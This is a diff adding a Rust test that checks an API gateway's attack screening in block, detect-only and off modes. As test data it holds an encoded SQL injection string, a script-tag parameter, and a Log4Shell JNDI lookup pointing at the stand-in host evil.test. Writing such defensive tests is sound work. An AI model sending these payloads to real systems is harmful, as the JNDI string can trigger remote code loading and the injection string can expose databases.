@@ -286,3 +286,29 @@ async fn a_tenant_says_from_where_its_own_people_may_ask() {
     house.change(ACME, |record| record.networks = ["127.0.0.0/8".parse().unwrap()].into()).await;
     assert_eq!(at_acme().await.status, 200);
 }
+
+#[tokio::test]
+async fn what_looks_like_an_attack_is_blocked_or_only_counted() {
+    let house = House::routed(
+        r#"[{"name": "blocks", "host": "*.base.test", "path": "/blocks", "audience": "api", "open": true,
+             "policies": {"screen": {"attacks": {"mode": "block", "except_parameters": ["code"]}}}},
+            {"name": "detects", "host": "*.base.test", "path": "/detects", "audience": "api", "open": true,
+             "policies": {"screen": {"attacks": {"mode": "detect"}}}},
+            {"name": "rest", "host": "*.base.test", "audience": "api", "open": true}]"#,
+    )
+    .await;
+    let ask = async |target: &str| get("acme.base.test", target).at(house.address).await;
+    let attack = "?q=%2527%2520or%25201%253D1--";
+    let told = ask(&format!("/blocks{attack}")).await;
+    assert_eq!((told.status.as_u16(), told.code().as_str()), (400, "request.attack"));
+    assert!(told.text().contains("`sql.") && !told.text().contains("1=1"), "{}", told.text());
+    assert_eq!(house.gateway.screened(), (0, 1));
+    assert_eq!(ask(&format!("/detects{attack}")).await.status, 200);
+    assert_eq!(house.gateway.screened(), (1, 1));
+    assert_eq!(ask(&format!("/rest{attack}")).await.status, 200);
+    assert_eq!(ask("/blocks?q=it%27s+5+or+6&code=%3Cscript%3E").await.status, 200);
+    assert_eq!(house.gateway.screened(), (1, 1));
+    let log4shell =
+        get("acme.base.test", "/blocks").with("user-agent", "${${lower:j}ndi:ldap://evil.test/a}");
+    assert_eq!(log4shell.at(house.address).await.code(), "request.attack");
+}
